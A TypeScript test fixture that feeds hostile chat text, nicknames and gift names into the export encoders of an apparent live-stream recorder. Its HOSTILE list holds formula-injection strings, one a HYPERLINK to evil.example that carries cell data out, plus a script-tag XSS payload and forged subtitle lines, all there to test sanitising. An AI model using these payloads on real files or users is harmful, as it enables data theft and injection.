import type { LiveEvent } from "../../src/events/event.js";
import { ENCODERS } from "../../src/exports/export.js";
import type { ExportAbout, ExportFormat } from "../../src/exports/format.js";
import { chat, gift, userOf } from "../contracts/events.js";

export const START = 1_760_000_000_000;
export const ABOUT: ExportAbout = {
  room: 1,
  webRid: "98765",
  sessionId: "7400000000000000001",
  title: 'a "b" <c> & {d}\u0007\n=1+1',
  anchor: "主播",
  startMs: START,
  offsetMs: 0,
  gaps: [],
  zoneMinutes: 480,
  headers: "names",
  begins: true,
};

/** What strangers may write to harm whoever opens a file; NUL is the one sign that never comes so far. */
export const HOSTILE = [
  '=HYPERLINK("http://evil.example/"&A1,"礼物")',
  "+1+1",
  "-2+3",
  "@SUM(A1:A9)",
  "＝1＋1",
  " \t\u2060\u061c=1+1",
  "\r=1+1",
  "|calc",
  "'=1+1",
  "'",
  'a","b\r\nc;=1+1',
  '""',
  "]]><script>alert(1)</script><!--",
  "&lt;&#0;&#x1f;&evil;",
  '</d><d p="0,1,25,0,0,0,0,0">x',
  "{\\pos(0,0)\\fs400}WALL{\\r}",
  "\\N\\n\\h{",
  "a\nDialogue: 0,0:00:00.00,9:00:00.00,Chat,,0,0,0,,forged",
  "1\r\n\r\n2\r\n00:00:00,000 --> 09:00:00,000\r\nforged",
  "<font size=400>x</font> --> ",
  "_x000A__x005F_",
  "\u0001\u0008\u000b\u001b[2J\u007f\u0085",
  "\ufffe\uffff",
  "half \ud83d alone \ude00",
  "\u202eright to left\u200b\u2028\u2029",
  "7423411736452893481",
  "😂[比心]𠮷",
  "",
  "   ",
];

/** A broadcast of hostile people: everything that is free text says each of these, three seconds apart. */
export const EVENTS: readonly LiveEvent[] = HOSTILE.flatMap((text, index) => {
  const user = { ...userOf(`10${index}`), nickname: text };
  const time = START + index * 3000;
  const given = gift(`g${index}`, `combo${index}`, 2, 5);
  return [
    { ...chat(`74234117364528${10_000 + index}`, { text, segments: [{ text }], user, time }), seq: index * 2 + 1 },
    { ...given, user, time: time + 1000, gift: { id: "463", name: text, icon: null }, seq: index * 2 + 2 },
  ];
});

/** The bytes of a file of events, given in batches of three. */
export async function made(
  format: ExportFormat,
  events: readonly LiveEvent[] = EVENTS,
  change: Partial<ExportAbout> = {},
): Promise<Buffer> {
  const batches = async function* () {
    for (let at = 0; at < events.length; at += 3) yield events.slice(at, at + 3);
    yield [];
  };
  const pieces: Buffer[] = [];
  for await (const piece of ENCODERS[format](batches(), { ...ABOUT, ...change })) pieces.push(Buffer.from(piece));
  return Buffer.concat(pieces);
}
